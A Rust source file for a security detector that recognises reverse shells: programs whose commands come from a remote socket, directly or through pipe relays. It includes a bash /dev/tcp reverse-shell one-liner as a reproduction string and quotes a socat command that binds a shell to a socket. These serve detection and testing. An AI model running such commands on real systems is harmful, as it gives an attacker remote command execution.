//! Reverse Shell.

use detection::{Detector, Direction, Evidence, Metadata, ProbeNeed, Session, Settings, direction};
use enrichment::channel::Route;
use enrichment::{Actor, Enriched};
use event::{Descriptor, Object, Origin};
use finding::{Severity, Tactic, Technique};
use programs::invocation::Invocation;
use programs::script::{contains_command, is_runner, names_program};
use std::sync::Arc;

/// The detector.
pub struct ReverseShell;

static METADATA: Metadata = Metadata {
    category: "Reverse Shell",
    module: "REVERSE_SHELL",
    severity: Severity::Critical,
    on_by_default: true,
    prose: "A program was started with its standard input and its output bound to a remote socket, or a shell takes its \
commands from a remote socket, at once or through another process.

Recognised by where the program's commands come from (standard input, or the descriptor that its arguments name): an \
internet socket at once, or pipes, UNIX sockets and pseudo-terminals whose other ends are held by processes with such \
a socket, over any number of relays. A shell behind a pipe or behind several relays must also send its output there. Also \
found: a program or shell script whose text connects to the network, by itself or by a client that it starts, and \
executes what it reads; and an interpreter that holds a remote socket and runs commands through pipes which its program \
does not contain. That program stands on the command line, or in a file of at most 64 KiB whose text may execute what it \
reads from a connection.

Quiet for programs that an inetd-like server starts on a connection it accepted, and for those that only read from one \
(`head <&3`), unless they execute what they read; for shells that the container runtime attaches (exec, attach); for \
logins through an SSH server; for the windows of a terminal multiplexer; and for applications that know a service (a \
database, syslog) whose other clients are remote.

Not told apart from an attack: an agent that holds a connection and pipes its own commands into a shell whose answers \
it reads. Not found: an interpreter's program that came through standard input or as an installed module and runs one \
command at a time; one that asks for its commands by HTTP; and a shell whose script is a named pipe.",
    tactic: Tactic::Execution,
    techniques: &[Technique::UnixShell, Technique::CommandAndScriptingInterpreter],
    additional_tactics: &[Tactic::CommandAndControl],
    additional_technique_ids: &["T1095"],
    evidence: &[
        "program binary: path, size, SHA-256, bytes",
        "arguments of the program and of the process that holds the socket",
        "direction, both ends of the connection, transport, terminal",
        "user, working directory, ancestry up to the container's first process",
        "descriptors, memory map, environment (redacted), recent log lines of the pod",
    ],
    needs: &[ProbeNeed::Lifecycle, ProbeNeed::SocketState],
    reproduction: "bash -c 'exec /bin/sh </dev/tcp/127.0.0.1/{PORT} >&0'",
};

impl Detector for ReverseShell {
    fn metadata(&self) -> &'static Metadata {
        &METADATA
    }

    fn detect(&self, enriched: &Enriched, settings: &Settings) -> Option<Evidence> {
        if let Some(route) = enriched.input.as_ref().filter(|r| r.hops.is_empty()) {
            return bound_to_socket(enriched, route, settings.parity);
        }
        if settings.parity {
            return None;
        }
        if enriched.actor.takes_commands() {
            let route = enriched.input.as_ref()?;
            // a download piped into a shell has commands from the network, too, but nobody who reads the answers
            let by_pipe =
                matches!(enriched.exec.descriptor(0)?.object, Object::Pipe { .. } | Object::Fifo { .. });
            if (by_pipe || route.hops.len() > 1) && !is_answered(route, enriched.output.as_ref()) {
                return None;
            }
            let reason = "The shell takes its commands from a process that holds an internet socket, and its output goes there.";
            return Some(evidence(enriched, route, reason));
        }
        if let Some(route) = enriched.input.as_ref().filter(|_| enriched.actor.reads_commands_from_network())
        {
            let reason =
                "The program executes what a client reads from the network that it has started itself.";
            return Some(evidence(enriched, route, reason));
        }
        command_by_command(enriched)
    }
}

/// The output goes to whom the commands come from: through the same process, or over a second connection to the same host.
fn is_answered(input: &Route, output: Option<&Route>) -> bool {
    output.is_some_and(|output| {
        let last = |route: &Route| route.hops.last().map(|hop| hop.process);
        let same_process = last(output).is_some() && last(output) == last(input);
        let (to, from) = (output.endpoint, input.endpoint);
        same_process || to.inode == from.inode || to.remote.address == from.remote.address
    })
}

/// Standard input is the socket itself.
fn bound_to_socket(enriched: &Enriched, route: &Route, parity: bool) -> Option<Evidence> {
    let actor = &enriched.actor;
    let by_itself = actor.reads_commands_from_network() && !actor.takes_commands();
    if !parity && !actor.takes_commands() && !by_itself && !is_handed_over(enriched, route) {
        return None;
    }
    if enriched.ancestors.first().is_some_and(Actor::is_login_service) {
        return None;
    }
    let reason = match actor.command_descriptor() {
        None if by_itself => {
            "The program connects to the network by itself and executes what comes from there."
        }
        Some(1..) => "The program takes its commands from a remote socket.",
        _ => "The program's standard input is a remote socket.",
    };
    Some(evidence(enriched, route, reason))
}

/// Whether a program that executes nothing that it reads was joined to the peer all the same. Not so: what an inetd-like
/// server starts; what only reads from a connection (`head <&3`); and a shell or a script of known text that holds one as
/// its standard input for a while, which only live state tells: it was not started so.
fn is_handed_over(enriched: &Enriched, route: &Route) -> bool {
    let answers = |number| {
        let socket = enriched.exec.descriptor(number).and_then(Descriptor::internet);
        socket.is_some_and(|socket| socket.state.has_peer())
    };
    let has_text = matches!(
        enriched.actor.invocation,
        Invocation::CommandString { .. } | Invocation::InlineProgram { .. } | Invocation::ScriptFile { .. }
    );
    // what a wrapper runs is looked at in its place (`timeout 9 sh`)
    let wraps = enriched.exec.executable.path.file_name();
    let met_later = enriched.exec.origin != Origin::Probe && has_text;
    // and what socat starts is looked at in its place (`socat STDIO EXEC:sh <&3 >&3`)
    direction(&route.endpoint) == Direction::Reverse
        && (answers(1) || answers(2))
        && !met_later
        && !is_runner(wraps)
        && !enriched.actor.is_socat()
}

/// An interpreter with its program on the command line runs one shell per command and reads its output.
fn command_by_command(enriched: &Enriched) -> Option<Evidence> {
    let parent = enriched.ancestors.first()?;
    let text = parent.commanding_text()?;
    if !enriched.actor.is_shell() {
        // a command without anything for a shell to do is run at once
        let name = enriched.exec.executable.path.file_name();
        let is_named = name.is_empty() || text.windows(name.len()).any(|at| at == name);
        if is_named || !parent.runs_what_it_receives() {
            return None;
        }
        return through_pipes(enriched, parent);
    }
    let is_script = matches!(parent.invocation, Invocation::ScriptFile { .. });
    match &enriched.actor.invocation {
        // what the program always runs, whoever is at the other end
        Invocation::CommandString { text: command, .. }
            if contains_command(text, command.bytes())
                || is_script && names_program(text, command.bytes()) =>
        {
            return None;
        }
        Invocation::CommandString { .. } => {}
        // a shell that is given a file or nothing says nothing of the script that started it
        _ if is_script => return None,
        _ => {}
    }
    through_pipes(enriched, parent)
}

fn through_pipes(enriched: &Enriched, parent: &Actor) -> Option<Evidence> {
    let route = enriched.output.as_ref().or(enriched.input.as_ref())?;
    // the socket is the interpreter's own, not one of a program that it started beside
    if route.hops.len() != 1 || route.hops.first()?.process != parent.process {
        return None;
    }
    let reason = "An interpreter holds an internet socket and runs commands through pipes that its program does not contain.";
    Some(evidence(enriched, route, reason))
}

fn evidence(enriched: &Enriched, route: &Route, reason: &str) -> Evidence {
    let opener: Option<&Actor> = match route.hops.last() {
        Some(hop) => enriched.relays.iter().find(|a| a.process == hop.process),
        None => enriched.earlier.iter().find(|image| image.own).or(enriched.ancestors.first()),
    };
    Evidence {
        metadata: &METADATA,
        session: Session::of(Some(route), enriched.exec.process),
        direction: direction(&route.endpoint),
        endpoint: Some(route.endpoint),
        opener: opener.cloned(),
        tls: None,
        terminal: route.terminal,
        recognised_by: enriched.actor.by,
        reasons: vec![reason.into()],
        enriched: Arc::new(enriched.clone()),
    }
}
